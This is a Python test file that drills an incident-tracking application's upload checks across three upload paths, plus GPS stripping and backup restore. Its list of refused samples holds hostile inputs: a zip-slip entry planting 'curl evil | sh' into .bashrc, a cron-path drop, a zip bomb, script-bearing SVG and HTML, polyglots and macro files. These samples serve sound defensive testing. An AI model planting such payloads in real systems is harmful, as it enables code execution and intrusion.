"""Drill: every upload case through the three upload paths (incident evidence, a reply's
document, a self-report accepted onto an incident): what must be refused is, with nothing
stored; what is accepted has its original's SHA-256 in the audit chain and, for images, a shared
copy with no GPS tag; a backup carries the shared copies and restores them byte for byte."""

from __future__ import annotations

import contextlib
import datetime
import hashlib
import io
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.db import connection

from amparo.audit.models import AuditEvent
from amparo.communications.services import ReplyData, reply_document_add, reply_record
from amparo.communications.tests.conftest import draft, letters, send  # noqa: F401 (fixture)
from amparo.core.keys import get_keyring
from amparo.core.tests.samples import (
    docx,
    gps_tags,
    image,
    jpeg_with_gps,
    odt,
    zipped,
)
from amparo.core.uploads import Refused, content_check
from amparo.incidents.models import Attachment
from amparo.incidents.services import IncidentData, attachment_add, attachment_read, incident_record
from amparo.ops.backup import backup_create, backup_restore
from amparo.ops.figures import report
from amparo.portal.services import ReportContent, Upload, report_accept, report_submit

pytestmark = [pytest.mark.drill]

LIMIT = 2 * 1024 * 1024


def _flood() -> bytes:
    png = bytearray(image("PNG", (1, 1)))
    header = b"IHDR" + (30_000).to_bytes(4, "big") * 2 + bytes(png[24:29])
    png[12:33] = header + zlib.crc32(header).to_bytes(4, "big")
    return bytes(png)


def _office(extra: dict[str, bytes]) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", **extra})


ACCEPTED: dict[str, bytes] = {
    "jpeg with GPS": jpeg_with_gps(),
    "png": image("PNG"),
    "gif": image("GIF"),
    "webp": image("WEBP"),
    "tiff": image("TIFF"),
    "pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n",
    "text": "Llamada a las 22:10: «te vamos a matar»".encode(),
    "ogg": b"OggS\x00\x02" + b"\x00" * 40,
    "mp3": b"ID3\x04\x00" + b"\x00" * 40,
    "wav": b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 20,
    "mp4": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 40,
    "webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01" + b"\x00" * 20,
    "docx": docx(),
    "odt": odt(),
}
REFUSED: dict[str, bytes] = {
    "oversize": b"x" * (LIMIT + 1),
    "empty": b"",
    "executable": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00",
    "old office (macros)": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40,
    "heic": b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40,
    "bare zip": zipped({"photo.jpg": image("JPEG")}),
    "zip bomb (ratio)": _office({"word/media/pad.xml": b"\0" * 20_000_000}),
    "zip slip": _office({"../../home/amparo/.bashrc": b"curl evil | sh"}),
    "zip slip (absolute)": _office({"/etc/cron.d/x": b"x"}),
    "docx with macros": _office({"word/vbaProject.bin": b"\x00" * 10}),
    "svg with script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg with handler": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg with foreignObject": b"<?xml version='1.0'?><svg><foreignObject/></svg>",
    "html": b"<!DOCTYPE html><html><body>x</body></html>",
    "polyglot html then pdf": b"<html><script>alert(1)</script></html>\n%PDF-1.4\n",
    "polyglot pdf with html head": b"%PDF-1.4\n<html><script>alert(1)</script>",
    "pixel flood": _flood(),
    "damaged image": b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
}
IMAGES = {"jpeg", "png", "gif", "webp", "tiff"}
ACTIONS = {
    "incident": "attachment.create",
    "reply": "reply_document.create",
    "portal": "selfreport.file",
}


@pytest.fixture
def paths(
    request, settings, audit_transactional_db, coordinator, comms_officer, world, entity
) -> dict[str, Callable[[str, bytes], Any]]:
    """Each path: store one file, answer the accepted attachment's (or document's) row."""
    settings.AMPARO_MAX_ATTACHMENT_BYTES = LIMIT
    settings.AMPARO_INTAKE_ENTITY = "desk"
    rosa = request.getfixturevalue("letters").rosa
    incident = incident_record(
        actor=coordinator,
        data=IncidentData(
            date=datetime.date(2026, 3, 1),
            country="CO",
            violations=["threat"],
            victim_defenders=[world.team_defender],
        ),
    )
    communication = send(
        comms_officer,
        coordinator,
        draft(comms_officer, defenders=[rosa]),
        sent_on=datetime.date(2026, 5, 4),
    )
    reply = reply_record(
        actor=comms_officer,
        communication=communication,
        data=ReplyData(received_on=datetime.date(2026, 6, 1), kind="substantive"),
    )

    def to_incident(name: str, content: bytes) -> Any:
        return attachment_add(
            actor=coordinator,
            incident=incident,
            upload=io.BytesIO(content),
            filename=name,
            content_type="image/jpeg",
        )

    def to_reply(name: str, content: bytes) -> Any:
        return reply_document_add(
            actor=comms_officer,
            reply=reply,
            upload=io.BytesIO(content),
            filename=name,
            content_type="application/pdf",
        )

    def to_portal(name: str, content: bytes) -> Any:
        submitted, _code = report_submit(
            actor=None,
            content=ReportContent(
                what_happened="Drill.",
                occurred_on=datetime.date(2026, 3, 1),
                country="CO",
                violations=["threat"],
            ),
            uploads=[Upload(name, io.BytesIO(content))],
        )
        accepted = report_accept(actor=coordinator, report=submitted, defender=world.team_defender)
        return accepted.attachments.get()

    return {"incident": to_incident, "reply": to_reply, "portal": to_portal}


def _counts() -> tuple[int, int, int]:
    return (
        Attachment.objects.count(),
        AuditEvent.objects.filter(action__in=ACTIONS.values()).count(),
        sum(1 for _ in Path(str(_attachments_dir())).rglob("*.bin")),
    )


def _attachments_dir() -> Any:
    from django.conf import settings

    return settings.AMPARO_ATTACHMENTS_DIR


def test_upload_drill(paths, coordinator, tmp_path, empty_database):
    refused = accepted = unexpected = hashed = 0
    shared_copies = gps_in_shared = gps_in_originals = 0
    for name, content in REFUSED.items():
        for path, store in paths.items():
            before = _counts()
            try:
                store(f"{name}.bin", content)
            except ValidationError:
                refused += 1
                assert _counts() == before, (name, path)  # nothing stored, nothing audited
            else:
                unexpected += 1
    for name, content in ACCEPTED.items():
        for path, store in paths.items():
            try:
                stored = store(f"{name}.bin", content)
            except ValidationError:
                unexpected += 1
                continue
            accepted += 1
            original = hashlib.sha256(content).hexdigest()
            hashed += AuditEvent.objects.filter(
                action=ACTIONS[path], detail__sha256=original
            ).exists()
            if isinstance(stored, Attachment) and stored.has_shared_copy:
                shared_copies += 1
                served = attachment_read(actor=coordinator, attachment=stored)
                gps_in_shared += gps_tags(served)
                gps_in_originals += gps_tags(
                    attachment_read(actor=coordinator, attachment=stored, original=True)
                )
    slowest = 0.0
    for content in (*REFUSED.values(), *ACCEPTED.values()):
        started = time.perf_counter()
        with contextlib.suppress(Refused):
            content_check(content)
        slowest = max(slowest, time.perf_counter() - started)

    # The backup carries the shared copies, and a restore gives them back byte for byte.
    live = Path(str(_attachments_dir()))
    shared_files = sorted(p.name for p in live.glob("*.shared.bin"))
    backup = tmp_path / "uploads.amparo"
    backup_create(out=backup, keyring=get_keyring())
    restored = backup_restore(
        path=backup,
        data_dir=tmp_path / "restored",
        keyring=get_keyring(),
        database_url=empty_database(),
    )
    restored_dir = tmp_path / "restored" / "attachments"
    restored_shared = sum(
        (restored_dir / name).read_bytes() == (live / name).read_bytes() for name in shared_files
    )

    report(
        "uploads",
        database=connection.vendor,
        cases=len(REFUSED) + len(ACCEPTED),
        paths=len(paths),
        refused=refused,
        accepted=accepted,
        unexpected=unexpected,
        shared_copies=shared_copies,
        gps_tags_in_originals=gps_in_originals,
        gps_tags_in_shared_copies=gps_in_shared,
        originals_hashed_in_audit=hashed,
        slowest_check_ms=round(slowest * 1000, 1),
        shared_copies_restored=restored_shared,
        restore_problems=len(restored.problems),
    )
    assert unexpected == 0
    assert refused == len(REFUSED) * len(paths)
    assert accepted == hashed == len(ACCEPTED) * len(paths)
    images = sum(
        1 for name in ACCEPTED if name.split()[0] in {"jpeg", "png", "gif", "webp", "tiff"}
    )
    assert shared_copies == images * 2  # the incident path, and the portal onto an incident
    assert gps_in_originals == 4 * 2 and gps_in_shared == 0
    assert restored_shared == len(shared_files) == shared_copies
    assert restored.problems == []


def test_the_zip_bomb_sample_is_a_bomb():
    """Positive control: the bomb is small on the wire and large unpacked."""
    bomb = REFUSED["zip bomb (ratio)"]
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        unpacked = sum(entry.file_size for entry in archive.infolist())
    assert len(bomb) < 100_000 and unpacked > 100 * len(bomb)
